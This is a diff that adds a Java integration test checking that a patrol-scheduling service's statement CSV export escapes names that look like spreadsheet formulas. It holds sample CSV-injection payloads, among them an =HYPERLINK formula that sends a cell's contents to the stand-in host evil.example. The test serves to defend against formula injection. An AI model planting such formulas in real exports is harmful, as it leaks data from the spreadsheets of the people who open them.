@@ -261,6 +261,35 @@ public class PatrolIT extends AsskommTestSupport {
         assertEquals(200, get(base + "/plans/" + plan.get("id").asText(), FLOEHA).status());
     }
 
+    /** Issue 25: names that are spreadsheet formulas reach the statement CSV as text, never as formulas. */
+    @Test
+    public void formulasInNamesOpenAsTextInTheStatementCsv() {
+        List<String> ags = List.of("14522150", "14511000");
+        for (String a : ags) {
+            enable("patrol", a);
+        }
+        Answer created = post(ROOT + "/compounds", ADMIN, Map.of("name", "=HYPERLINK(\"http://evil.example\",\"Klick\")",
+                "leadAgs", ags.get(0), "startDate", "2021-01-01", "members", List.of(
+                        Map.of("ags", ags.get(0), "contractedHoursPerMonth", 10),
+                        Map.of("ags", ags.get(1), "contractedHoursPerMonth", 10))));
+        assertEquals(created.body(), 201, created.status());
+        String base = ROOT + "/compounds/" + created.get("id").asText();
+        for (String name : List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Klick\")", "@SUM(A1:A9)", "-2+3")) {
+            Answer resource = post(base + "/resources", ADMIN, Map.of("name", name, "kind", "VEHICLE",
+                    "monthlyFixed", new BigDecimal("100.00")));
+            assertEquals(resource.body(), 201, resource.status());
+        }
+        Answer csv = get(base + "/statements/2021-01/csv", ADMIN);
+        assertEquals(csv.body(), 200, csv.status());
+        String body = csv.body();
+        assertTrue(body, body.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Klick\"\")\","));
+        assertTrue(body, body.contains(",'@SUM(A1:A9),"));
+        assertTrue(body, body.contains(",'-2+3,"));
+        for (String cellStart : List.of(",=", ",@", ",+", ",\"=", ",\"@", ",-2")) {
+            assertFalse(cellStart + " in " + body, body.contains(cellStart));
+        }
+    }
+
     private static void assertProblem(Answer answer, int status, String field) {
         assertEquals(answer.body(), status, answer.status());
         assertTrue(answer.contentType(), answer.contentType().startsWith("application/problem+json"));
